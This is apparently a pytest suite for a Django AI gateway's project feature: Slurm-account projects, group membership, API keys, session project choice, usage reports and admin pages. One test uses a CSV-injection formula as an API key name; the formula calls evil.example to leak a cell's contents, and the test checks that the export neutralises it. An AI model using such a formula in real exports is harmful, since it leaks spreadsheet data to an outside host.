"""Projects in process (test database): the PROJECTS setting (parsed, checked, applied idempotently at
migrate), membership from groups, a key's project on /api/keys and `manage.py apikey`, the chat's choice
kept in the session (PUT /api/me/project), usage by project on /api and in the admin. The same paths on
a live daphne with SQLite and PostgreSQL: tests/test_projects_live.py; the chat's select and the OIDC
groups claim through a real provider: tests/test_browser_projects.py."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import Group, User
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client

from chatai.oidc import Backend
from gateway import keys, projects
from gateway.caller import caller_by_key, caller_by_user
from gateway.errors import ApiError
from gateway.limits import group_ids_of
from gateway.models import ApiKey, Project, UsageRecord
from gateway.project_sync import ProjectSpec, parse_projects, sync_projects

pytestmark = pytest.mark.django_db(transaction=True)
ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(autouse=True)
def fresh(settings: Any) -> None:
    settings.GATEWAY_POLICY_TTL = 0  # memberships edited in a test apply at once
    projects.forget()


def member(name: str, *groups: str) -> User:
    user = User.objects.create_user(name, password=f"pw-{name}-123456")
    for g in groups:
        user.groups.add(Group.objects.get_or_create(name=g)[0])
    return user


def signed_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def api(client: Client, method: str, path: str, body: Any = None, key: str = "") -> tuple[int, Any]:
    headers = {"Authorization": f"Bearer {key}"} if key else {}
    response = getattr(client, method.lower())(path, json.dumps(body) if body is not None else None,
                                               content_type="application/json", headers=headers)
    return response.status_code, response.json()


# -- the PROJECTS setting ------------------------------------------------------------------------

def test_the_setting_names_groups_by_list_or_object_with_account_and_shares() -> None:
    specs = parse_projects('{"chemistry": {"groups": ["chem", "chem-staff", "chem"], "slurm_account": "chem01", '
                           '"shares": 10, "description": "Chemistry"}, "physics": ["physics"]}')
    assert specs == (ProjectSpec("chemistry", ("chem", "chem-staff"), "chem01", 10, "Chemistry"),
                     ProjectSpec("physics", ("physics",)))
    assert parse_projects("") == () and parse_projects("  ") == ()


@pytest.mark.parametrize("value, problem", [
    ("{not json", "not valid JSON"),
    ('["physics"]', "must be a JSON object"),
    ('{"p": "physics"}', "give a list of group names"),
    ('{"p": [""]}', "groups must be a list"),
    ('{"p": [1]}', "groups must be a list"),
    ('{"p": {"slurm_account": "x"}}', "'groups' is missing"),
    ('{"p": {"groups": [], "shares": 0}}', "shares must be a whole number"),
    ('{"p": {"groups": [], "shares": true}}', "shares must be a whole number"),
    ('{"p": {"groups": [], "slurm_account": "a b"}}', "slurm_account must be"),
    ('{"p": {"groups": [], "acount": "a"}}', "unknown field 'acount'"),
    ('{" p": []}', "without surrounding spaces"),
    ('{"' + "x" * 101 + '": []}', "1 to 100 characters"),
])
def test_a_broken_setting_is_an_error_naming_it(value: str, problem: str) -> None:
    with pytest.raises(ValueError, match="PROJECTS") as err:
        parse_projects(value)
    assert problem in str(err.value)


def test_the_app_does_not_start_with_a_broken_setting_and_says_which() -> None:
    env = {**os.environ, "PROJECTS": '{"chemistry": {"groups": ["chem"], "shares": -1}}',
           "DJANGO_SETTINGS_MODULE": "chatai.settings"}
    proc = subprocess.run([sys.executable, "manage.py", "check"], cwd=ROOT, env=env, capture_output=True,
                          text=True, timeout=60, check=False)
    assert proc.returncode != 0
    assert "PROJECTS: project 'chemistry': shares must be a whole number" in proc.stderr


def test_applying_the_setting_is_idempotent_and_leaves_hand_added_members_alone() -> None:
    specs = (ProjectSpec("chemistry", ("chem",), "chem01", 10), ProjectSpec("physics", ("physics", "astro")))
    first = sync_projects(specs)
    assert (first.created, first.updated) == (["chemistry", "physics"], [])
    chem = Project.objects.get(name="chemistry")
    assert (chem.slurm_account, chem.shares) == ("chem01", 10)
    assert sorted(Project.objects.get(name="physics").groups.values_list("name", flat=True)) == ["astro", "physics"]
    assert sync_projects(specs).unchanged == ["chemistry", "physics"]  # again: nothing changes

    # An admin's edits: a hand-added member stays; a group or shares the setting names come back.
    helper = member("helper")
    chem.members.add(helper)
    chem.groups.add(Group.objects.create(name="added-by-hand"))
    Project.objects.filter(pk=chem.pk).update(shares=1, description="kept")
    again = sync_projects(specs)
    assert again.updated == ["chemistry"] and again.unchanged == ["physics"]
    chem.refresh_from_db()
    assert list(chem.groups.values_list("name", flat=True)) == ["chem"]
    assert (chem.shares, chem.description, list(chem.members.all())) == (10, "kept", [helper])
    assert "1 updated" in str(again) and "~chemistry" in str(again)


def test_migrate_applies_the_setting(settings: Any) -> None:
    settings.PROJECTS = parse_projects('{"climate": {"groups": ["clim"], "slurm_account": "clim01"}}')
    call_command("migrate", verbosity=0)
    project = Project.objects.get(name="climate")
    assert project.slurm_account == "clim01" and list(project.groups.values_list("name", flat=True)) == ["clim"]
    out = io.StringIO()
    call_command("sync_projects", stdout=out)
    assert out.getvalue().strip() == "projects from PROJECTS: 0 created, 0 updated, 1 unchanged"


def test_the_groups_claim_at_login_makes_a_user_a_member(settings: Any) -> None:
    settings.OIDC_ENABLED = True
    settings.OIDC_OP_TOKEN_ENDPOINT = settings.OIDC_OP_USER_ENDPOINT = "https://sso.example/x"
    settings.OIDC_OP_JWKS_ENDPOINT, settings.OIDC_RP_SIGN_ALGO = "https://sso.example/jwks", "RS256"
    settings.OIDC_RP_CLIENT_ID, settings.OIDC_RP_CLIENT_SECRET = "chat-ai", "s"
    settings.OIDC_USERNAME_CLAIM, settings.OIDC_GROUPS_CLAIM = "sub", "groups"
    settings.OIDC_GROUPS_MAP, settings.OIDC_GROUPS_PREFIX, settings.OIDC_KEEP_GROUPS_WITHOUT_CLAIM = {}, "", False
    sync_projects((ProjectSpec("chemistry", ("chem",)), ProjectSpec("physics", ("physics",))))
    user = User.objects.create_user("s-1")
    Backend().update_user(user, {"sub": "s-1", "groups": ["physics", "chem"]})
    assert [p.name for p in projects.projects_of(user, group_ids_of(user))] == ["chemistry", "physics"]
    Backend().update_user(user, {"sub": "s-1", "groups": ["physics"]})  # left chem at the provider
    assert [p.name for p in projects.projects_of(user, group_ids_of(user))] == ["physics"]


# -- keys ----------------------------------------------------------------------------------------

def two_projects() -> tuple[User, Project, Project]:
    sync_projects((ProjectSpec("beta", ("b",), "b01"), ProjectSpec("alpha", ("a",), "a01")))
    return member("ann", "a", "b"), Project.objects.get(name="alpha"), Project.objects.get(name="beta")


def test_a_key_is_charged_to_the_project_named_or_the_users_default() -> None:
    ann, alpha, beta = two_projects()
    Project.objects.create(name="secret")  # ann is no member
    client = signed_in(ann)
    assert api(client, "POST", "/api/keys", {"name": "k1"})[1]["project"] == "alpha"  # the first by name
    status, body = api(client, "POST", "/api/keys", {"name": "k2", "project": "beta"})
    assert status == 201 and body["project"] == "beta"
    assert ApiKey.objects.get(prefix=body["prefix"]).project == beta
    for name in ("secret", "nope"):
        status, body = api(client, "POST", "/api/keys", {"name": "k3", "project": name})
        assert status == 400 and body["error"]["param"] == "project", body
        assert body["error"]["message"] == f"You are not a member of a project named {name!r} (yours: alpha, beta)."
    assert api(client, "POST", "/api/keys", {"name": "k4", "project": ""})[1]["error"]["param"] == "project"
    listed = api(client, "GET", "/api/keys")[1]["data"]
    assert sorted(k["project"] for k in listed) == ["alpha", "beta"]
    loner = member("lone")
    assert api(signed_in(loner), "POST", "/api/keys", {"name": "k"})[1]["project"] is None


def test_a_key_without_a_project_is_charged_to_its_users_default_project() -> None:
    """As Slurm charges a job without --account to the user's default account: a key made before its
    user joined a project (or by an operator without --project) does not step around the project."""
    ann = member("ann")
    _, secret = keys.api_key_create(user=ann, name="old")  # made while ann had no project
    assert caller_by_key(secret, "192.0.2.1").project is None
    sync_projects((ProjectSpec("beta", ("b",), "b01"), ProjectSpec("alpha", ("a",), "a01")))
    for name in ("a", "b"):  # ann joins alpha and beta through her groups
        ann.groups.add(Group.objects.get_or_create(name=name)[0])
    projects.forget()
    assert caller_by_key(secret, "192.0.2.1").project.name == "alpha"  # type: ignore[union-attr]
    assert ApiKey.objects.get(name="old").project is None  # the key itself names none: it follows the default


def test_a_key_creates_keys_only_in_its_own_project() -> None:
    ann, alpha, beta = two_projects()
    _, secret = keys.api_key_create(user=ann, name="parent", project_id=beta.pk)
    status, body = api(Client(), "POST", "/api/keys", {"name": "child"}, key=secret)
    assert status == 201 and body["project"] == "beta"
    status, body = api(Client(), "POST", "/api/keys", {"name": "child", "project": "alpha"}, key=secret)
    assert status == 403 and body["error"]["param"] == "project" and body["error"]["code"] == "key_wider_than_caller"


def test_a_key_stops_when_its_user_leaves_its_project() -> None:
    ann, alpha, beta = two_projects()
    _, secret = keys.api_key_create(user=ann, name="k", project_id=beta.pk)
    assert caller_by_key(secret, "192.0.2.1").project is not None
    ann.groups.remove(Group.objects.get(name="b"))  # the claim no longer names group b
    projects.forget()
    with pytest.raises(ApiError) as refused:
        caller_by_key(secret, "192.0.2.1")
    assert refused.value.status == 403 and refused.value.code == "key_project_left"
    assert "project 'beta'" in refused.value.message
    status, body = api(Client(), "GET", "/api/me", key=secret)
    assert status == 401 and "no longer a member" in body["error"]["message"], body
    beta.members.add(ann)  # added back by hand: the key works again
    projects.forget()
    assert caller_by_key(secret, "192.0.2.1").project.name == "beta"  # type: ignore[union-attr]


def test_manage_py_apikey_takes_a_project_of_the_users() -> None:
    ann, alpha, beta = two_projects()
    out = io.StringIO()
    call_command("apikey", "create", "ann", "--name", "cli", "--project", "beta", stdout=out)
    assert "project: beta" in out.getvalue()
    assert ApiKey.objects.get(name="cli").project == beta
    with pytest.raises(CommandError, match="ann is not a member of a project named 'gamma'"):
        call_command("apikey", "create", "ann", "--name", "x", "--project", "gamma", stdout=io.StringIO())
    out = io.StringIO()
    call_command("apikey", "create", "ann", "--name", "none", stdout=out)
    assert "charged to the user's default project at each request (now alpha)" in out.getvalue()
    assert ApiKey.objects.get(name="none").project is None  # charged to ann's default project, request by request
    out = io.StringIO()
    call_command("apikey", "list", stdout=out)
    assert "PROJECT" in out.getvalue() and " beta " in out.getvalue()


# -- the chat's project, in the session --------------------------------------------------------------

def test_the_chat_is_charged_to_the_default_until_another_project_is_chosen() -> None:
    ann, alpha, beta = two_projects()
    client = signed_in(ann)
    me = api(client, "GET", "/api/me")[1]
    assert me["projects"] == [{"name": "alpha", "slurm_account": "a01"}, {"name": "beta", "slurm_account": "b01"}]
    assert me["project"] == "alpha"
    status, body = api(client, "PUT", "/api/me/project", {"project": "beta"})
    assert (status, body["project"]) == (200, "beta")
    assert api(client, "GET", "/api/me")[1]["project"] == "beta"
    session = client.session
    assert session[projects.SESSION_KEY] == beta.pk
    assert caller_by_user(ann, session).project.name == "beta"  # what /v1 charges (gateway.caller)
    status, body = api(client, "PUT", "/api/me/project", {"project": "gamma"})
    assert status == 400 and body["error"]["param"] == "project"
    assert api(client, "GET", "/api/me")[1]["project"] == "beta"  # unchanged
    assert api(client, "PUT", "/api/me/project", {"project": None})[1]["project"] == "alpha"
    assert api(client, "PUT", "/api/me/project", {})[0] == 400

    # Leaving the chosen project (the provider no longer sends the group): back to the default.
    api(client, "PUT", "/api/me/project", {"project": "beta"})
    ann.groups.remove(Group.objects.get(name="b"))
    assert api(client, "GET", "/api/me")[1]["project"] == "alpha"


def test_a_key_cannot_change_the_chats_project_and_shows_its_own() -> None:
    ann, alpha, beta = two_projects()
    _, secret = keys.api_key_create(user=ann, name="k", project_id=beta.pk)
    assert api(Client(), "GET", "/api/me", key=secret)[1]["project"] == "beta"
    status, body = api(Client(), "PUT", "/api/me/project", {"project": "alpha"}, key=secret)
    assert status == 403 and body["error"]["code"] == "key_project_fixed"


# -- usage ---------------------------------------------------------------------------------------

def usage(user: User, project: Project | None, tokens: int) -> None:
    UsageRecord.objects.create(user=user, model="m", endpoint="chat", status=200, prompt_tokens=tokens,
                               completion_tokens=1, project=project)


def test_usage_shows_and_filters_by_project_for_users_and_staff() -> None:
    ann, alpha, beta = two_projects()
    usage(ann, alpha, 10)
    usage(ann, alpha, 20)
    usage(ann, beta, 5)
    usage(ann, None, 7)
    client = signed_in(ann)
    rows = api(client, "GET", "/api/usage")[1]["data"]
    assert sorted((r["project"] or "", r["requests"], r["prompt_tokens"]) for r in rows) == [
        ("", 1, 7), ("alpha", 2, 30), ("beta", 1, 5)]
    assert [r["project"] for r in api(client, "GET", "/api/usage?project=beta")[1]["data"]] == ["beta"]
    assert api(client, "GET", "/api/usage?project=nope")[1]["data"] == []

    staff = User.objects.create_superuser("ops", password="pw-ops-123456")
    admin = signed_in(staff)
    by_project = api(admin, "GET", "/api/admin/usage")[1]["by_project"]
    assert [(r["project"], r["requests"]) for r in by_project] == [("alpha", 2), ("beta", 1), (None, 1)]
    only = api(admin, "GET", "/api/admin/usage?project=alpha")[1]
    assert [(r["user"], r["requests"]) for r in only["by_user"]] == [("ann", 2)]

    # The admin's usage list filters by project, and its CSV names it.
    page = admin.get("/admin/gateway/usagerecord/", {"project__id__exact": beta.pk})
    assert page.status_code == 200 and page.context["cl"].result_count == 1
    ids = list(UsageRecord.objects.order_by("pk").values_list("pk", flat=True))
    response = admin.post("/admin/gateway/usagerecord/", {"action": "export_csv", "_selected_action": ids})
    table = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(r["project"] for r in table) == ["", "alpha", "alpha", "beta"]


def test_the_admins_usage_csv_opens_a_hostile_key_name_as_text_not_a_formula() -> None:
    ann, alpha, _ = two_projects()
    key, _ = keys.api_key_create(user=ann, name='=HYPERLINK("http://evil.example/?"&A1,"x")', project_id=alpha.pk)
    UsageRecord.objects.create(user=ann, api_key=key, project=alpha, model="m", endpoint="chat", status=200)
    admin = signed_in(User.objects.create_superuser("ops", password="pw-ops-123456"))
    ids = list(UsageRecord.objects.values_list("pk", flat=True))
    response = admin.post("/admin/gateway/usagerecord/", {"action": "export_csv", "_selected_action": ids})
    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["api_key"].startswith("'=HYPERLINK("), row  # a spreadsheet shows it as text
    assert row["prompt_tokens"] == "0" and row["streamed"] == "False"


def test_a_project_name_cannot_pass_for_the_reports_own_rows() -> None:
    from django.core.exceptions import ValidationError

    for name in ("(no project)", "(idle)"):
        with pytest.raises(ValidationError):
            Project(name=name).full_clean()
        with pytest.raises(ValueError, match="may not start with"):
            parse_projects(json.dumps({name: ["g"]}))
    Project(name="idle").full_clean()  # a plain word is fine: the chart's own bar is "(idle)"


def test_the_project_admin_lists_accounts_shares_and_members() -> None:
    ann, alpha, beta = two_projects()
    member("bob", "a")
    alpha.members.add(ann, member("carl"))  # ann is also in group a: counted once
    admin = signed_in(User.objects.create_superuser("ops", password="pw-ops-123456"))
    page = admin.get("/admin/gateway/project/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "a01" in html and "Slurm account" in html
    counts = {p.name: page.context["cl"].model_admin.member_count(p) for p in page.context["cl"].result_list}
    assert counts == {"alpha": 3, "beta": 1}
    edit = admin.get(f"/admin/gateway/project/{alpha.pk}/change/").content.decode()
    assert "selectfilter" in edit.lower()  # filter_horizontal for groups and members
    assert admin.get("/admin/gateway/budget/").status_code == 200
    keys.api_key_create(user=ann, name="k", project_id=beta.pk)
    keys_page = admin.get("/admin/gateway/apikey/").content.decode()
    assert "column-project" in keys_page


def test_the_chat_and_keys_pages_offer_a_project_select_only_to_members() -> None:
    ann, alpha, beta = two_projects()
    client = signed_in(ann)
    api(client, "PUT", "/api/me/project", {"project": "beta"})
    chat = client.get("/").content.decode()
    assert 'id="project"' in chat and '<option value="beta" selected>' in chat and "chat/project.js" in chat
    keys_page = client.get("/keys/").content.decode()
    assert '<option value="alpha" selected>alpha (Slurm account a01)</option>' in keys_page
    loner = signed_in(member("lone"))
    assert 'id="project"' not in loner.get("/").content.decode()
    assert 'id="key-project"' not in loner.get("/keys/").content.decode()
